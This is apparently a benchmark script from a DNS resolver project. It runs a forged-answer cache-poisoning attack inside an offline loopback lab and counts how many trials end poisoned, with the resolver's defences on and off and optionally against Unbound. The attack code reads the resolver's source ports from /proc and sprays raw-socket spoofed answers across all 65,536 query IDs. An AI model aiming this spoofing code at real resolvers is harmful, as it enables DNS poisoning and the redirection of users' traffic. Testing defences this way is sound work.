#!/usr/bin/env python3
"""Forged-answer (cache poisoning) attack on the offline lab: how many of N trials end poisoned.

  bench/attacks/spoof.py --ternd build/lab-release/resolver/ternd [--net 127.53]
                         [--trials 20] [--trial-seconds 4] [--defences on|off|both]
                         [--unbound /usr/sbin/unbound] [--fault PATH] [--json FILE]
                         [--expect-clean]
  (`make bench-spoof` runs it with --defences both and Unbound when installed.)

Model: a local attacker who knows the upstream source port ("the attacker knows the port"). In the
lab it learns the port from /proc: the resolver's socket inodes (/proc/PID/fd) matched in
/proc/net/udp, keeping the sockets connected to the slow lab authority (the fault authority's
`delay` address, which answers after 400 ms) or unconnected, other than the listening socket.
For every new such socket it sprays forged answers for all 65,536 IDs from the authority's address
and port 53 (a raw socket, so root is needed), each claiming the trial's name has
A 127.66.6.6 with AA set. A trial asks the resolver for a fresh name under the delay zone and counts as
poisoned when the answer carries 127.66.6.6.

Bounded: each trial lasts at most --trial-seconds (default 4), the spray stops with the trial, and
every process started here is stopped by its PID. Only 127.0.0.0/8 is touched. --defences off
runs ternd with case-randomisation = false and near-miss-limit = 0 to show the attack works.
See docs/benchmarks.md ("Forged answers") for the figures.
"""

import argparse
import json
import os
import random
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time

HERE = os.path.dirname(os.path.abspath(__file__))
REPO = os.path.dirname(os.path.dirname(HERE))
sys.path.insert(0, os.path.join(REPO, "bench"))
sys.path.insert(0, os.path.join(REPO, "tests", "lab"))
sys.path.insert(0, os.path.join(REPO, "tests", "e2e"))

from harness.lab import Lab  # noqa: E402
from labgen import dnsmsg  # noqa: E402
from ternd_harness import free_port  # noqa: E402

FORGED = "127.66.6.6"
DEFENCES_OFF = "case-randomisation = false\nnear-miss-limit = 0\n"


def delay_authority(manifest_path):
    """(address, zone) of the fault authority's `delay` behaviour, from the lab's faults.conf."""
    path = os.path.join(os.path.dirname(manifest_path), "faults.conf")
    with open(path) as f:
        for line in f:
            words = line.split()
            if len(words) >= 3 and words[1] == "delay":
                return words[0], words[2]
    raise RuntimeError(f"no delay behaviour in {path} (is the fault authority built?)")


def forged_packet(src_ip, dst_ip, dst_port, qname):
    """An IPv4/UDP datagram from src_ip:53 claiming qname A FORGED; the ID is at offset 28."""
    dns = struct.pack("!HHHHHH", 0, 0x8400, 1, 1, 0, 0)
    dns += dnsmsg.name_to_wire(qname) + struct.pack("!HH", 1, 1)
    dns += struct.pack("!HHHIH", 0xC00C, 1, 1, 3600, 4) + socket.inet_aton(FORGED)
    udp_len = 8 + len(dns)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + udp_len, 0, 0, 64, 17, 0,
                     socket.inet_aton(src_ip), socket.inet_aton(dst_ip))
    # UDP checksum 0: none (allowed over IPv4).
    return bytearray(ip + struct.pack("!HHHH", 53, dst_port, udp_len, 0) + dns)


def hex_endpoint(ip, port):
    return "%08X:%04X" % (struct.unpack("<I", socket.inet_aton(ip))[0], port)


def socket_inodes(pid):
    """The inodes of the sockets process `pid` holds open."""
    out = set()
    try:
        for fd in os.listdir(f"/proc/{pid}/fd"):
            try:
                link = os.readlink(f"/proc/{pid}/fd/{fd}")
            except OSError:
                continue
            if link.startswith("socket:["):
                out.add(link[8:-1])
    except OSError:
        pass
    return out


def upstream_sockets(pid, remote_hex, listen_port):
    """[(local_ip, local_port)] of the resolver's UDP sockets that may be waiting for the
    authority: connected to remote_hex ("0303357F:0035"), or unconnected (Unbound's), other than
    its listening socket. Unconnected ones bound to the wildcard are sprayed on 127.0.0.1."""
    inodes = socket_inodes(pid)
    out = []
    try:
        with open("/proc/net/udp") as f:
            next(f)
            for line in f:
                w = line.split()
                if len(w) < 10 or w[9] not in inodes or w[2] not in (remote_hex, "00000000:0000"):
                    continue
                ip_hex, port_hex = w[1].split(":")
                port = int(port_hex, 16)
                if port == listen_port:
                    continue
                ip = socket.inet_ntoa(struct.pack("<I", int(ip_hex, 16)))
                out.append(("127.0.0.1" if ip == "0.0.0.0" else ip, port))
    except OSError:
        pass
    return out


class Sprayer(threading.Thread):
    """Sprays every new upstream socket towards `authority` with all 65,536 IDs until stopped."""

    def __init__(self, pid, listen_port, authority, qname, deadline):
        super().__init__(daemon=True)
        self.pid = pid
        self.listen_port = listen_port
        self.authority = authority
        self.qname = qname
        self.deadline = deadline
        self.stop_event = threading.Event()
        self.ports = 0
        self.packets = 0

    def run(self):
        raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        remote = hex_endpoint(self.authority, 53)
        seen = set()
        try:
            while not self.stop_event.is_set() and time.monotonic() < self.deadline:
                fresh = [s for s in upstream_sockets(self.pid, remote, self.listen_port)
                         if s not in seen]
                if not fresh:
                    time.sleep(0.0005)
                    continue
                for local_ip, port in fresh:
                    seen.add((local_ip, port))
                    self.ports += 1
                    pkt = forged_packet(self.authority, local_ip, port, self.qname)
                    for qid in range(65536):
                        if qid & 1023 == 0 and (self.stop_event.is_set()
                                                or time.monotonic() >= self.deadline):
                            break
                        pkt[28] = qid >> 8
                        pkt[29] = qid & 255
                        try:
                            raw.sendto(pkt, (local_ip, 0))
                            self.packets += 1
                        except OSError:
                            pass
        finally:
            raw.close()


def run_trials(pid, server, port, zone, authority, trials, trial_seconds, label, log):
    poisoned = answered = 0
    packets = ports = 0
    for i in range(trials):
        qname = f"s{i}x{random.randrange(1 << 30):x}.{zone}".lower()
        deadline = time.monotonic() + trial_seconds
        sprayer = Sprayer(pid, port, authority, qname, deadline)
        sprayer.start()
        resp = dnsmsg.query(server, qname, "A", port=port, timeout=trial_seconds, rd=True,
                            retry=1.0)
        sprayer.stop_event.set()
        sprayer.join(trial_seconds + 5)
        packets += sprayer.packets
        ports += sprayer.ports
        hit = False
        if resp is not None:
            answered += 1
            forged = socket.inet_aton(FORGED)
            hit = any(rtype == 1 and bytes(rdata) == forged for _, rtype, _, rdata in resp.answer)
        poisoned += hit
        log(f"{label}: trial {i + 1}/{trials} {qname} sockets sprayed {sprayer.ports} "
            f"packets {sprayer.packets} -> {'POISONED' if hit else 'clean'}"
            f"{'' if resp is not None else ' (no answer)'}")
        time.sleep(0.2)  # let the last spray's datagrams drain
    return {"resolver": label, "trials": trials, "poisoned": poisoned, "answered": answered,
            "sockets_sprayed": ports, "packets": packets}


class Process:
    def __init__(self, argv, log_path):
        self.log = open(log_path, "w")
        self.proc = subprocess.Popen(argv, stdin=subprocess.DEVNULL, stdout=self.log,
                                     stderr=subprocess.STDOUT)

    def stop(self):
        if self.proc.poll() is None:
            self.proc.terminate()
            try:
                self.proc.wait(15)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait()
        self.log.close()


def wait_answering(address, port, name, seconds=15):
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if dnsmsg.query(address, name, "A", port=port, timeout=2.0, retry=0.5) is not None:
            return True
        time.sleep(0.2)
    return False


def start_ternd(binary, address, hints, extra, workdir):
    port = free_port(address)
    conf = os.path.join(workdir, f"ternd-{port}.toml")
    with open(conf, "w") as f:
        f.write(f'[server]\nlisten = ["{address}:{port}"]\nthreads = 1\n'
                f'[resolver]\nroot-hints = "{hints}"\nupstream-allow = ["127.0.0.0/8"]\n{extra}'
                '[cache]\nprefetch = false\n')
    env_log = os.path.join(workdir, f"ternd-{port}.log")
    return Process([binary, "--config", conf], env_log), port


def start_unbound(binary, address, hints, workdir):
    port = free_port(address)
    conf = os.path.join(workdir, f"unbound-{port}.conf")
    with open(conf, "w") as f:
        f.write(f"server:\n  interface: {address}\n  port: {port}\n  do-daemonize: no\n"
                f"  username: \"\"\n  chroot: \"\"\n  directory: \"{workdir}\"\n  pidfile: \"\"\n"
                f"  use-syslog: no\n  logfile: \"\"\n  num-threads: 1\n  root-hints: \"{hints}\"\n"
                "  do-not-query-localhost: no\n  do-ip6: no\n  prefetch: no\n"
                "  module-config: \"iterator\"\n"
                # The lab lives under test., which Unbound serves locally by default (RFC 6761).
                "  local-zone: \"test.\" nodefault\n"
                "  access-control: 127.0.0.0/8 allow\n")
    return Process([binary, "-d", "-c", conf], os.path.join(workdir, f"unbound-{port}.log")), port


def main(argv=None):
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--ternd", required=True)
    p.add_argument("--net", default=os.environ.get("TERN_LAB_NET", "127.53"))
    p.add_argument("--trials", type=int, default=20)
    p.add_argument("--trial-seconds", type=float, default=4.0)
    p.add_argument("--defences", choices=["on", "off", "both"], default="on")
    p.add_argument("--fault", help="the lab's fault authority binary (if the lab is not up)")
    p.add_argument("--unbound", help="also measure this unbound binary (lab hints, defaults)")
    p.add_argument("--json", help="write the figures here")
    p.add_argument("--expect-clean", action="store_true",
                   help="exit 1 unless ternd with its defences on was never poisoned")
    args = p.parse_args(argv)
    if not 1 <= args.trials <= 100 or not 0.5 <= args.trial_seconds <= 10:
        p.error("--trials 1..100, --trial-seconds 0.5..10")
    if os.geteuid() != 0:
        print("the attacker forges source addresses with a raw socket: run as root (skipped)")
        return 77
    if args.fault:
        os.environ["TERN_LAB_FAULT"] = os.path.abspath(args.fault)

    lab = Lab(args.net)
    lab.up()
    authority, zone = delay_authority(lab_manifest_path(args.net))
    address = f"{args.net}.255.61"
    workdir = tempfile.mkdtemp(prefix="tern-spoof-")
    results = []
    log = lambda line: print(line, flush=True)  # noqa: E731
    runs = []
    if args.defences in ("on", "both"):
        runs.append(("ternd", ""))
    if args.defences in ("off", "both"):
        runs.append(("ternd-defences-off", DEFENCES_OFF))
    try:
        for label, extra in runs:
            proc, port = start_ternd(args.ternd, address, lab.hints, extra, workdir)
            try:
                if not wait_answering(address, port, f"www.{zone}"):
                    raise RuntimeError(f"{label} does not answer www.{zone}")
                results.append(run_trials(proc.proc.pid, address, port, zone, authority, args.trials,
                                          args.trial_seconds, label, log))
            finally:
                proc.stop()
        if args.unbound:
            ub_address = f"{args.net}.255.62"
            proc, port = start_unbound(args.unbound, ub_address, lab.hints, workdir)
            try:
                if not wait_answering(ub_address, port, f"www.{zone}"):
                    raise RuntimeError(f"unbound does not answer www.{zone}")
                results.append(run_trials(proc.proc.pid, ub_address, port, zone, authority, args.trials,
                                          args.trial_seconds, "unbound", log))
            finally:
                proc.stop()
    finally:
        if lab.started_here:
            lab.down()
    print("\n| resolver | poisoned | answered | sockets sprayed | forged packets |")
    print("|---|---|---|---|---|")
    for r in results:
        print(f"| {r['resolver']} | {r['poisoned']}/{r['trials']} | {r['answered']}/{r['trials']} "
              f"| {r['sockets_sprayed']} | {r['packets']} |")
    if args.json:
        with open(args.json, "w") as f:
            json.dump(results, f, indent=2)
    if args.expect_clean:
        bad = [r for r in results if r["resolver"] == "ternd" and r["poisoned"]]
        return 1 if bad else 0
    return 0


def lab_manifest_path(net):
    out = subprocess.run([os.path.join(REPO, "tests", "lab", "lab"), "manifest", "--net", net],
                         stdout=subprocess.PIPE, stdin=subprocess.DEVNULL, timeout=60)
    return out.stdout.decode().strip().splitlines()[-1]


if __name__ == "__main__":
    sys.exit(main())
